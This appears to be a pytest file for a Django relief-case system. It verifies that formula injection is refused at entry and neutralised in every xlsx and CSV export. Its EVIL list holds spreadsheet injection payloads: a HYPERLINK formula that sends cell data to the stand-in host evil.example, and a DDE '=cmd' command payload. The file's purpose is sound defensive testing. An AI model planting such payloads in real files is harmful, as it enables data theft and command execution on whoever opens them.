"""Formula text typed anywhere is refused at entry (API and forms, one validator), and every export we write
carries no formula cell even for text already stored (before the guard, or put in by other means)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from bangfu.common.spreadsheets import FORMULA_MESSAGE

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3"]
pytestmark = pytest.mark.django_db


@pytest.fixture
def client_for(users):
    def make(who):
        client = Client()
        client.force_login(users[who])
        return client

    return make


@pytest.fixture
def household(make_household, users, noticed):
    """An archived household (payments need one), through the workflow as caseworker and reviewer do it."""
    from bangfu.cases import services as cases

    cw = users["caseworker_g1"]
    household = make_household()
    case = noticed(cw, cases.case_open(actor=cw, household=household))
    cases.case_archive(actor=users["reviewer_xuanwu"], case=case, version=case.version, category="hardship")
    household.refresh_from_db()
    return household


def _formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))
            and c.data_type != "s"]


@pytest.mark.parametrize("evil", EVIL)
def test_api_entry_refuses_formula_text_in_names_addresses_and_descriptions(client_for, make_household, build,
                                                                             evil, users):
    client = client_for("caseworker_g1")
    household = make_household()
    posted = client.post("/api/v1/households", {"union_id": household.union_id, **build.household(
        region_code="320102", address=evil), "members": [build.member("self", region="320100")]},
        content_type="application/json")
    assert posted.status_code == 422 and FORMULA_MESSAGE in posted.json()["detail"]
    assert posted.json()["field"] == "address"
    patched = client.patch(f"/api/v1/households/{household.pk}", {"address": evil, "version": household.version},
                           content_type="application/json")
    assert patched.status_code == 422 and patched.json()["field"] == "address"
    member = client.post(f"/api/v1/households/{household.pk}/members",
                         {**build.member("child", region="320100"), "name": evil}, content_type="application/json")
    assert member.status_code == 422 and member.json()["field"] == "name"
    token = client_for("admin_nanjing").post("/api/v1/accounts/tokens", {"name": evil},
                                             content_type="application/json")
    assert token.status_code == 422 and FORMULA_MESSAGE in token.json()["detail"]


def test_ledger_entry_refuses_formula_text(client_for, household, users):
    client = client_for("caseworker_g1")
    answer = client.post("/api/v1/ledger/requests", {
        "household_id": household.pk, "amount": "100.00", "fund_source": "union_funds",
        "paid_on": timezone.localdate().isoformat(), "description": EVIL[1]}, content_type="application/json")
    assert answer.status_code == 422 and answer.json()["field"] == "description"
    assert FORMULA_MESSAGE in answer.json()["detail"]


def test_web_form_refuses_formula_text_with_the_message(login, make_household):
    household = make_household()
    client = login(household.created_by)
    page = client.get(f"/households/{household.pk}/edit/")
    form = page.context["form"]
    data = {name: form[name].value() for name in form.fields if form[name].value() not in (None, False)}
    answer = client.post(f"/households/{household.pk}/edit/", {**data, "address": EVIL[0]})
    assert answer.status_code == 200 and FORMULA_MESSAGE in answer.content.decode()
    household.refresh_from_db()
    assert household.address != EVIL[0]


def test_every_export_has_no_formula_cell_even_for_stored_formula_text(client_for, household, users):
    """Text stored before entry refused it (or by SQL) is still written as text by every export."""
    from bangfu.registry.models import Household, Member

    Household.objects.filter(pk=household.pk).update(address=EVIL[0])
    Member.objects.filter(household=household, relation="self").update(name=EVIL[1])
    from bangfu.ledger import services as ledger
    from bangfu.ledger.models import LedgerRequest

    request, _ = ledger.ledger_request_payment(actor=users["caseworker_g1"], household=household, amount="80.00",
                                               fund_source="union_funds", paid_on=timezone.localdate(),
                                               description="生活救助金")
    LedgerRequest.objects.filter(pk=request.pk).update(description=EVIL[2])  # the entry copies it at approval
    request.refresh_from_db()
    ledger.ledger_approve(actor=users["reviewer_xuanwu"], ledger_request=request)
    client = client_for("admin_province")
    exports = {
        "households (API)": client.get("/api/v1/households/export.xlsx"),
        "ledger (API)": client.get("/api/v1/ledger/export.xlsx"),
        "template (API)": client.get("/api/v1/exchange/template.xlsx"),
        "households (web)": client.get("/households/export.xlsx"),
        "ledger (web)": client.get("/ledger/export.xlsx"),
    }
    for name, response in exports.items():
        assert response.status_code == 200, name
        content = b"".join(response.streaming_content) if response.streaming else response.content
        assert _formula_cells(content) == [], name
    households = load_workbook(io.BytesIO(exports["households (API)"].content)).worksheets[0]
    texts = [c.value for row in households.iter_rows() for c in row]
    assert EVIL[0] in texts and EVIL[1] in texts  # kept, as text
    csv_template = client.get("/api/v1/exchange/template.csv").content.decode("utf-8-sig")
    assert not any(f.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(csv_template)) for f in row)
